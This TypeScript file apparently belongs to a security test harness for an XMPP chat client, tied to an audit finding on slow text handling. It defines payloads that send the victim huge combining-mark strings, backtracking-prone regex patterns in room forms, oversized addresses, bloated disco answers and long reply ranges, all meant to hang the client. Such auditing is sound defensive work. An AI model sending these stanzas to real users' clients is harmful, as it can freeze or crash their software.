/** Attack class "quadratic time on foreign text" (finding 5). */
import type { Attack } from "../attack.ts";
import { ownerForm, room } from "./voice.ts";
import { id, times, toRoom, toVictim } from "./xml.ts";

const delay = (from: string): string => `<delay xmlns="urn:xmpp:delay" from="${from}" stamp="2026-01-01T00:00:00Z"/>`;
/** Combining marks in the worst order: normalisation must move each mark of the second half before the first half. */
const marks = (bytes: number): string => "\u0315".repeat(bytes / 4) + "\u0300".repeat(bytes / 4);
const FORM = "jabber:x:data";
const DISCO = "http://jabber.org/protocol/disco#info";
/** With a backtracking matcher, each takes exponential time on the value of the form. */
const PATTERNS = ["[^](a+)+b[^]", "(a|aa){1,99}b", "(?:a?){64}a{64}"];

export const slow: Attack[] = [
  {
    name: "a delay from an address of 48 kB of combining marks",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>hello</body>${delay(marks(48_000))}`),
  },
  {
    name: "a delay from an address of 180 kB of combining marks",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>hello</body>${delay(marks(180_000))}`),
  },
  {
    name: "a delay from a domain of 48 kB of combining marks",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>hello</body>${delay(`a@${marks(48_000)}/x`)}`),
  },
  {
    name: "a delay from an address of 48 kB of combining marks",
    where: "room message",
    send: (scene) => toRoom(scene, `<body>hello</body>${delay(marks(48_000))}`),
  },
  {
    name: "200 delays from addresses of 1 kB",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>hello</body>${times(200, () => delay(`a@${marks(1_000)}`))}`),
  },
  {
    name: "our nickname 16,000 times, as part of words",
    where: "room message",
    send: (scene) =>
      toRoom(scene, `<body>${times(16_000, `x${scene.victim.nickname.toLowerCase()}`).slice(0, 80_000)}</body>`),
  },
  {
    name: "an aesgcm address of 60 kB",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>aesgcm://${times(30_000, "a.")}/x#0</body>`),
  },
  {
    name: "an aesgcm address of 60 kB of escapes",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>aesgcm://example.org/${times(20_000, "%2E")}#0</body>`),
  },
  {
    name: "an aesgcm address of 60 kB of combining marks",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>aesgcm://${marks(60_000)}#0</body>`),
  },
  {
    name: "a status of 60 kB of question marks, and an xmpp: address of as many",
    where: "presence",
    send: ({ write, victim, room: hall }) => {
      const content = `<show>${"?".repeat(60_000)}</show><status>xmpp:${"?".repeat(60_000)}</status>`;
      for (const to of [victim.full, `${hall}/Mallory`]) write(`<presence to="${to}">${content}</presence>`);
    },
  },
  room("elsewhere", "a redirect to an address of 60 kB of question marks", (voice) =>
    voice.refused("gone", `xmpp:${"?".repeat(60_000)}\n`),
  ),
  room("long", "addresses of 60 kB of combining marks in a presence of a room", (voice) => {
    const names = `jid="${marks(60_000)}" nick="${marks(20_000)}"`;
    const content = `<actor jid="${marks(60_000)}"/><reason>${marks(60_000)}</reason>`;
    return voice.occupant("x", `<item affiliation="member" role="participant" ${names}>${content}</item>`) + voice.in();
  }),
  ...PATTERNS.map((pattern, at): Attack => ({
    name: `a room's form with the pattern ${pattern}`,
    where: "component",
    onlyLive: true,
    send: async ({ onAsked, victim }) => {
      const jid = `form${at}@crowd.localhost`;
      const text = `x${"a".repeat(200)}`;
      const rule =
        `<validate xmlns="http://jabber.org/protocol/xdata-validate" datatype="xs:string">` +
        `<regex>${pattern}</regex></validate>`;
      onAsked(jid, ownerForm(`<field var="f" type="text-single">${rule}<value>${text}</value></field>`));
      await victim.enter(jid);
      await victim.tries("room.configuration", { jid });
      await victim.tries("room.configure", { jid, fields: [{ name: "f", values: [text] }] });
    },
  })),
  {
    name: "addresses of 3,000 characters, and longer ones",
    where: "component",
    send: ({ component, victim }) => {
      for (const length of [1_000, 1_023]) {
        component(
          `<message from="${"a".repeat(length)}@crowd.localhost/${"r".repeat(
            length,
          )}" to="${victim.jid}" type="chat" id="${id()}"><body>hello</body></message>`,
        );
      }
    },
  },
  {
    name: "a disco answer with 2,000 forms and features",
    where: "component",
    send: async ({ onAsked, victim }) => {
      const room = "features@crowd.localhost";
      const isRoom = `<identity category="conference" type="text"/><feature var="http://jabber.org/protocol/muc"/>`;
      const answer = `<query xmlns="${DISCO}">${isRoom}${times(
        2_000,
        (at) => `<identity category="c${at}" type="t" name="${at}"/><feature var="urn:${at}"/>`,
      )}${times(
        500,
        `<x xmlns="${FORM}" type="result"><field var="FORM_TYPE" type="hidden"><value>urn:x</value></field></x>`,
      )}</query>`;
      onAsked(room, (request) => (request.includes(DISCO) ? answer : null));
      await victim.enter(room);
      await victim.tries("disco.info", { at: room, node: "" });
    },
  },
  {
    name: "a body of 200 kB of combining marks",
    where: "direct message",
    send: (scene) => toVictim(scene, `<body>${marks(200_000)}</body>`),
  },
  {
    name: "a subject, a thread and a nickname of 60 kB of combining marks",
    where: "direct message",
    send: (scene) => {
      const nick = `<nick xmlns="http://jabber.org/protocol/nick">${marks(60_000)}</nick>`;
      toVictim(scene, `<subject>${marks(60_000)}</subject><thread>${marks(60_000)}</thread>${nick}<body>hello</body>`);
    },
  },
  {
    name: "a reply to an address of 60 kB, with a fallback of 60 kB",
    where: "direct message",
    send: (scene) => {
      const range = `<body start="0" end="99999999999999999999"/>`;
      const reply = `<reply xmlns="urn:xmpp:reply:0" to="${marks(60_000)}" id="${"x".repeat(60_000)}"/>`;
      const fallback = `<fallback xmlns="urn:xmpp:fallback:0" for="urn:xmpp:reply:0">${range}</fallback>`;
      toVictim(scene, `<body>&gt; x\nhello</body>${reply}${fallback}`);
    },
  },
  {
    name: "a reaction of 60 kB, and one of joined emoji",
    where: "direct message",
    send: (scene) =>
      toVictim(
        scene,
        `<reactions xmlns="urn:xmpp:reactions:0" id="x"><reaction>${"\u{1f468}\u200d".repeat(
          8_000,
        )}</reaction><reaction>${marks(60_000)}</reaction></reactions>`,
      ),
  },
  {
    name: "60 kB of addresses, brackets and mail addresses in a row",
    where: "direct message",
    send: (scene) =>
      toVictim(
        scene,
        `<body>${times(10_000, "http:")}${"(".repeat(20_000)}${"a@".repeat(10_000)}${"_*".repeat(5_000)}</body>`,
      ),
  },
];
